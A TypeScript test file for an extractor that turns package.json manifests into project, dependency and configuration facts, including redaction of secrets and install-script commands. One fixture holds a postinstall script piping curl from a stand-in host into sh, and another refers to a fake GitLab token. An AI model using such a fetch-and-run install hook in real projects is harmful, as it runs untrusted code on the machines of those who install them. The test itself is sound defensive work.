import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import type { ConfigFact, DependencyFact, Fact, ProjectFact } from '../../../model/types.js';
import { runExtractor } from '../../testing.js';
import { extractor } from './index.js';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8');

const projects = (facts: Fact[]) => facts.filter((f): f is ProjectFact => f.kind === 'project');
const deps = (facts: Fact[]) => facts.filter((f): f is DependencyFact => f.kind === 'dependency');
const configs = (facts: Fact[], setting: string) => facts.filter((f): f is ConfigFact => f.kind === 'config' && f.setting === setting);

function roleOf(manifest: Record<string, unknown>, path = 'package.json'): ProjectFact {
  const { facts } = runExtractor(extractor, { [path]: JSON.stringify(manifest, null, 2) });
  return projects(facts)[0];
}

test('a service manifest: project, frameworks, role and evidence at the name line', () => {
  const { facts, diagnostics } = runExtractor(extractor, { 'services/orders/package.json': fixture('service.package.json') });
  assert.deepEqual(diagnostics, []);
  const [project] = projects(facts);
  assert.equal(project.name, '@acme/orders-api');
  assert.equal(project.root, 'services/orders');
  assert.equal(project.language, 'typescript');
  assert.equal(project.ecosystem, 'npm');
  assert.equal(project.role, 'service');
  assert.deepEqual(project.frameworks, ['aws-sdk', 'express', 'helmet', 'jsonwebtoken', 'mongoose', 'passport']);
  assert.deepEqual(project.evidence, { file: 'services/orders/package.json', line: 2, snippet: '"name": "@acme/orders-api",' });
  assert.equal(project.extractor, 'js/package-json');
});

test('declared dependencies: scope per section, range as version, line of the entry', () => {
  const { facts } = runExtractor(extractor, { 'package.json': fixture('service.package.json') });
  const byName = new Map(deps(facts).map((d) => [d.name, d]));
  const express = byName.get('express');
  assert.ok(express);
  assert.equal(express.version, '^4.19.2');
  assert.equal(express.scope, 'prod');
  assert.equal(express.direct, true);
  assert.equal(express.manifest, 'package.json');
  assert.equal(express.purl, 'pkg:npm/express');
  assert.deepEqual(express.evidence, { file: 'package.json', line: 15, snippet: '"express": "^4.19.2",' });
  assert.equal(byName.get('typescript')?.scope, 'dev');
  assert.equal(byName.get('bufferutil')?.scope, 'optional');
  assert.equal(byName.get('reflect-metadata')?.scope, 'peer');
  // An exact pin is an exact version: the purl carries it.
  assert.equal(byName.get('jsonwebtoken')?.purl, 'pkg:npm/jsonwebtoken@9.0.2');
  assert.equal(byName.get('@aws-sdk/client-s3')?.purl, 'pkg:npm/%40aws-sdk/client-s3');
  // Aliases install the real package; workspace links are the project's own code.
  assert.equal(byName.get('string-width')?.version, '^4.2.0');
  assert.equal(byName.has('string-width-cjs'), false);
  assert.equal(byName.has('shared-models'), false);
  // Stable keys: no line numbers.
  assert.equal(express.key, 'package.json#dependency:dependencies:express');
});

test('credentials in git dependency URLs never reach facts', () => {
  const { facts } = runExtractor(extractor, { 'package.json': fixture('service.package.json') });
  const text = JSON.stringify(facts);
  assert.equal(text.includes('glpat-s3cr3tT0ken'), false);
  const sdk = deps(facts).find((d) => d.name === 'private-sdk');
  assert.equal(sdk?.version, 'git+https://****@gitlab.example.com/acme/private-sdk.git#v2.0.0');
});

test('install scripts are reported as booleans, never their commands', () => {
  const { facts } = runExtractor(extractor, { 'package.json': fixture('service.package.json') });
  const [scripts] = configs(facts, 'npm-scripts');
  assert.deepEqual(scripts.values, { preinstall: false, install: false, postinstall: true, prepare: false });
  assert.equal(scripts.evidence.line, 10);
  assert.equal(JSON.stringify(scripts).includes('geoip'), false);
  const none = runExtractor(extractor, { 'package.json': '{"name":"x","scripts":{"test":"node --test"}}' });
  assert.deepEqual(configs(none.facts, 'npm-scripts')[0].values, { preinstall: false, install: false, postinstall: false, prepare: false });
  assert.equal(configs(runExtractor(extractor, { 'package.json': '{"name":"x"}' }).facts, 'npm-scripts').length, 0);
});

test('roles: frontend, next, function, cli, library, workspaces root', () => {
  assert.equal(roleOf({ name: 'web', private: true, dependencies: { 'react-dom': '^18.3.1' }, devDependencies: { react: '^18.3.1', vite: '^5' } }).role, 'frontend');
  // A published component library has react as a peer: a library, not a frontend.
  assert.equal(roleOf({ name: 'ui-kit', peerDependencies: { react: '^18' }, devDependencies: { react: '^18' } }).role, 'library');
  const next = roleOf({ name: 'site', dependencies: { next: '14.2.3', react: '^18', 'react-dom': '^18' } });
  assert.equal(next.role, 'service');
  assert.deepEqual(next.frameworks, ['next', 'react']);
  assert.equal(roleOf({ name: 'fn', dependencies: { express: '^4', 'serverless-http': '^3' } }).role, 'function');
  assert.equal(roleOf({ name: 'lambda', devDependencies: { serverless: '^3', '@types/aws-lambda': '^8' } }).role, 'function');
  assert.equal(roleOf({ name: 'tool', bin: { tool: 'bin/tool.js' }, dependencies: { commander: '^12' } }).role, 'cli');
  assert.equal(roleOf({ name: 'tool', bin: 'bin/tool.js' }).role, 'cli');
  assert.equal(roleOf({ name: 'lib', dependencies: { lodash: '^4' } }).role, 'library');
  assert.equal(roleOf({ name: 'mono', private: true, workspaces: ['packages/*'], devDependencies: { react: '^18', serverless: '^3' } }).role, 'library');
  assert.equal(roleOf({ name: 'mono', workspaces: { packages: ['apps/*'] }, dependencies: { koa: '^2' } }).role, 'service');
  assert.deepEqual(roleOf({ name: 'gql', dependencies: { 'apollo-server-express': '^3', '@koa/router': '^12' } }).frameworks, ['apollo-server', 'koa-router']);
  assert.equal(roleOf({ name: 'js', dependencies: {} }).language, 'javascript');
});

test('a package without a name is named after its folder (or root)', () => {
  assert.equal(roleOf({ private: true }, 'apps/admin/package.json').name, 'admin');
  const root = roleOf({ private: true });
  assert.equal(root.name, 'root');
  assert.equal(root.root, '.');
  assert.deepEqual(root.evidence, { file: 'package.json', line: 1 });
});

test('workspaces become a config fact for the lockfile link step', () => {
  const { facts } = runExtractor(extractor, { 'package.json': '{\n  "name": "mono",\n  "workspaces": ["packages/*", "apps/web"]\n}\n' });
  const [ws] = configs(facts, 'npm-workspaces');
  assert.deepEqual(ws.values, { patterns: 'packages/*\napps/web', count: 2 });
  assert.equal(ws.evidence.line, 3);
});

test('broken JSON gives a diagnostic and no facts; strange values do not crash', () => {
  const broken = runExtractor(extractor, { 'package.json': '{ "name": "x", }' });
  assert.deepEqual(broken.facts, []);
  assert.equal(broken.diagnostics.length, 1);
  assert.equal(broken.diagnostics[0].code, 'parse-error');
  assert.equal(broken.diagnostics[0].file, 'package.json');
  assert.equal(runExtractor(extractor, { 'package.json': '[1,2]' }).diagnostics[0].code, 'parse-error');
  const odd = runExtractor(extractor, {
    'package.json': JSON.stringify({ name: 42, dependencies: { constructor: '^1', toString: '1.0.0', bad: 7 }, workspaces: 'nope', bin: 5 }),
  });
  assert.deepEqual(odd.diagnostics, []);
  assert.equal(projects(odd.facts)[0].role, 'library');
  assert.deepEqual(projects(odd.facts)[0].frameworks, []);
  assert.deepEqual(deps(odd.facts).map((d) => d.name), ['constructor', 'toString']);
});

test('a minified manifest gives no snippets (one line would quote everything)', () => {
  const text = JSON.stringify({ name: 'min', scripts: { postinstall: 'curl -H "x-token: abc" https://x | sh' }, dependencies: { koa: '^2' } });
  const { facts } = runExtractor(extractor, { 'package.json': text });
  assert.deepEqual(projects(facts)[0].evidence, { file: 'package.json', line: 1 });
  assert.deepEqual(deps(facts)[0].evidence, { file: 'package.json', line: 1 });
  assert.equal(JSON.stringify(facts).includes('x-token'), false);
});

test('a byte-order mark and CRLF line endings are read', () => {
  const text = '\uFEFF{\r\n  "name": "bom",\r\n  "dependencies": {\r\n    "koa": "^2.15.0"\r\n  }\r\n}\r\n';
  const { facts, diagnostics } = runExtractor(extractor, { 'package.json': text });
  assert.deepEqual(diagnostics, []);
  assert.equal(projects(facts)[0].name, 'bom');
  assert.deepEqual(deps(facts)[0].evidence, { file: 'package.json', line: 4, snippet: '"koa": "^2.15.0"' });
});

test('only package.json files outside node_modules are read', () => {
  assert.equal(extractor.matches('package.json'), true);
  assert.equal(extractor.matches('apps/web/package.json'), true);
  assert.equal(extractor.matches('node_modules/express/package.json'), false);
  assert.equal(extractor.matches('apps/web/node_modules/x/package.json'), false);
  assert.equal(extractor.matches('my-package.json'), false);
});
